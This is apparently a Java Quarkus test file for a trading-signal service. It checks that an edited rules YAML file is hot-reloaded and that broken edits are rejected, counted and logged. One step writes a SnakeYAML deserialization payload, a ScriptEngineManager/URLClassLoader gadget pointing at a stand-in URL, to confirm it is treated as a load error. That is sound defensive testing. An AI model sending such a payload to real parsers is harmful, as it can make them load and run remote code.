package dev.marketfn.alphacall;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.marketfn.runtime.testing.MarketfnInfra;
import io.micrometer.core.instrument.Counter;
import io.micrometer.core.instrument.MeterRegistry;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.QuarkusTestProfile;
import io.quarkus.test.junit.TestProfile;
import jakarta.inject.Inject;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.Test;

/** A running function picks up an edited rules file and keeps its last good rules when the edit is broken. */
@QuarkusTest
@QuarkusTestResource(MarketfnInfra.class)
@TestProfile(RulesReloadTest.RulesFile.class)
class RulesReloadTest {

    /**
     * The rules file as a ConfigMap would provide it; checked on every event (reload-interval 0s). A fixed path: the
     * profile class is loaded by JUnit and again by Quarkus' class loader, so per-load state (a temp dir) would differ.
     */
    public static class RulesFile implements QuarkusTestProfile {
        static final Path FILE = Path.of("target", "rules-reload-test", "rules.yaml").toAbsolutePath();

        @Override
        public Map<String, String> getConfigOverrides() {
            try {
                Files.createDirectories(FILE.getParent());
                Files.writeString(FILE, rule("first_rule"));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            return Map.of("marketfn.rules.file", FILE.toString(), "marketfn.rules.reload-interval", "0s");
        }
    }

    @Inject
    MeterRegistry registry;

    static String rule(String name) {
        return "rules:\n  - name: " + name + "\n    condition: \"close > 0\"\n    signal: 1\n    score: 1\n";
    }

    private int bar;

    /** The rules (not the model) that fired on a fresh bar. */
    private List<String> fired() {
        JsonNode call = Events.call("rl-" + bar, Events.record("RLD", "2024-03-05T14:%02d:00.000000Z".formatted(bar),
                50.0, 0.1, 0.2));
        bar++;
        return Events.rules(call).stream().filter(r -> !r.startsWith("model:")).toList();
    }

    private double reloadFailures() {
        Counter c = registry.find("errors_total").tag("component", "alpha-call").tag("reason", "rules_reload_failed")
                .counter();
        return c == null ? 0 : c.count();
    }

    @Test
    void editedFileIsPickedUpAndABrokenOneKeepsTheLastGoodRules() throws Exception {
        List<String> logged = new CopyOnWriteArrayList<>();
        Handler capture = new Handler() {
            @Override
            public void publish(LogRecord r) {
                logged.add(r.getParameters() == null ? r.getMessage()
                        : String.format(r.getMessage(), r.getParameters()));
            }

            @Override
            public void flush() {
            }

            @Override
            public void close() {
            }
        };
        Logger log = Logger.getLogger(AlphaCallHandlers.class.getName());
        log.addHandler(capture);
        try {
            assertThat(fired()).containsExactly("first_rule");

            Files.writeString(RulesFile.FILE, rule("second_rule"));
            assertThat(fired()).containsExactly("second_rule");

            // A syntax error in the condition: reported with file, line and column; the second rules stay.
            double failures = reloadFailures();
            Files.writeString(RulesFile.FILE, "rules:\n  - name: third_rule\n    condition: \"close >\"\n"
                    + "    signal: 1\n    score: 1\n");
            assertThat(fired()).containsExactly("second_rule");
            assertThat(reloadFailures()).isEqualTo(failures + 1);
            assertThat(logged).anySatisfy(m -> assertThat(m).contains("file=" + RulesFile.FILE)
                    .contains("line=3").contains("column=").contains("keeping the last good rules"));
            assertThat(fired()).containsExactly("second_rule"); // and it is not reported again while unchanged
            assertThat(reloadFailures()).isEqualTo(failures + 1);

            // An injection attempt is a load error like any other.
            Files.writeString(RulesFile.FILE, "rules:\n  - name: evil\n    condition: "
                    + "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]"
                    + "\n    signal: 1\n    score: 1\n");
            assertThat(fired()).containsExactly("second_rule");
            assertThat(reloadFailures()).isEqualTo(failures + 2);

            Files.writeString(RulesFile.FILE, rule("fourth_rule_fixed"));
            assertThat(fired()).containsExactly("fourth_rule_fixed");
        } finally {
            log.removeHandler(capture);
        }
    }
}
